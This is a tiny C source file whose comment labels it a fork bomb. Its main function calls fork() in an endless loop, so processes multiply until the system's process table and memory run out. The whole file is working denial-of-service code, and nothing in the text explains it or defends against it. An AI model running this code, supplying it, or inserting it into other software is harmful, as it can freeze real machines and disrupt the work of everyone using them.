/* Fork bomb: every process forks forever; a refused fork just tries again. */
#include <unistd.h>

int main(void) {
    for (;;)
        fork();
}
